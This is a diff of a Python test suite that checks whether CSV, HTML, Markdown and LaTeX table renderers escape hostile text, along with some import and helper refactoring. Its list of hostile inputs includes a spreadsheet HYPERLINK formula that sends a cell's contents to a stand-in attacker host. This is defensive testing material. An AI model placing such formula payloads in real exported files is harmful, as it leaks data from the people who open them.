@@ -11,12 +11,11 @@ import pytest
 from hypothesis import example, given, settings
 from hypothesis import strategies as st
 
-from iunet.escape import csv_text, csv_value, drawn_text, markdown_text
+from iunet.escape import LATEX, csv_text, csv_value, drawn_text, latex_text, markdown_text
 from iunet.figures.style import PAGE_WIDTH, house_style, new_figure, write_figure
 from iunet.tables.document import VALUE, Cell, Column, Row, TableDocument, Value
-from iunet.tables.render.forms import html_page, markdown, tidy_rows
-from iunet.tables.render.latex import SPECIAL, escape, latex
-from iunet.tables.render.view import view_of
+from iunet.tables.render.forms import html_page, latex, markdown, tidy_rows
+from iunet.tables.render.view import View, table_view
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?"&A1,"click")',
@@ -62,6 +61,10 @@ def table_of(text: str) -> TableDocument:
     )
 
 
+def view_of(text: str) -> View:
+    return table_view(table_of(text).to_json())
+
+
 # ---- CSV
 
 
@@ -83,7 +86,7 @@ def test_numbers_and_other_text_stay(value):
 @example("a\r=1+1")
 def test_no_cell_of_a_csv_is_a_formula(text):
     """Neither in the header nor in the rows; and a cell comes back as it was but for the mark."""
-    rows = tidy_rows(table_of(text))
+    rows = tidy_rows(table_of(text).to_json())
     rows.append({**rows[0], "row": text})
     read = list(csv.reader(io.StringIO(csv_text(rows), newline="")))
     for cell in (cell for row in read for cell in row):
@@ -113,7 +116,7 @@ class Tags(HTMLParser):
 @SOME
 @given(TEXT)
 def test_html_has_the_tags_of_a_harmless_table(text):
-    plain, hostile = (Tags(html_page(view_of(table_of(t)))) for t in ("x", text))
+    plain, hostile = (Tags(html_page(view_of(t))) for t in ("x", text))
     assert hostile.found == plain.found and hostile.attributes == plain.attributes
 
 
@@ -123,7 +126,7 @@ def test_html_has_the_tags_of_a_harmless_table(text):
 @SOME
 @given(TEXT)
 def test_markdown_has_no_markup_of_its_own(text):
-    written = markdown(view_of(table_of(text)))
+    written = markdown(view_of(text))
     assert not re.search(r"[<>]", written)
     rows = [line for line in written.splitlines() if line.startswith("|")]
     assert len({len(re.findall(r"(?<!\\)(?:\\\\)*\|", row)) for row in rows}) == 1
@@ -146,9 +149,9 @@ def test_markdown_leaves_names_readable():
 @given(TEXT)
 def test_latex_is_text(text):
     """No command of the text's own, braces that close, and no row that begins as an option."""
-    escaped = escape(text)
+    escaped = latex_text(text)
     commands = set(re.findall(r"\\[a-zA-Z]+", escaped))
-    assert commands <= set(re.findall(r"\\[a-zA-Z]+", "".join(SPECIAL.values())))
+    assert commands <= set(re.findall(r"\\[a-zA-Z]+", "".join(LATEX.values())))
     depth = 0
     for character in re.sub(r"\\[{}]", "", escaped):
         depth += (character == "{") - (character == "}")
@@ -156,7 +159,7 @@ def test_latex_is_text(text):
     assert depth == 0
     plain = re.sub(r"\\.", "", re.sub(r"\$[^$]*\$", "", escaped))
     assert not re.search(r"[%#&~^_]", plain)
-    for line in latex(view_of(table_of(text))).splitlines():
+    for line in latex(view_of(text)).splitlines():
         assert not re.match(r"[\[*]", line)
 
 
